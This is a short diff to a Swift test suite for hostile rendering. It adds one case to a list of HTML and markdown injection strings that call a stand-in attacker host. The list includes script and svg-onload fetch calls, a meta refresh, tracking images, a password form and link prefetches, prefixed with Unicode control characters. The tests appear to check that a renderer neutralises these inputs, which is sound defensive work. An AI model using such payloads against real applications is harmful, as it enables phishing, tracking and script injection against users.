@@ -17,6 +17,7 @@ struct HostileRenderingTests {
       "Urgent \u{0600}<meta http-equiv=refresh content=0;url=\(probe)/meta>",
       "\u{0600}<style>*{display:none}</style>\u{0605}<b>(verified sender)</b>",
       "\u{0600}<img src=\(probe)/img>\u{0600}<form action=\(probe)/form><input type=password></form>",
+      "\u{0600}<link rel=preconnect href=\(probe)/pre><link rel=dns-prefetch href=\(probe)/dns>",
       "\u{0600}[verified](\(probe)/md) \u{0600}![x](\(probe)/mdimg.png) <\(probe)/auto> \u{0600}|cell|",
       "<script>fetch('\(probe)/script')</script>\"><svg onload=fetch('\(probe)/svg')>",
       "www.probe-evil.example ceo@probe-evil.example \(probe)/bare",
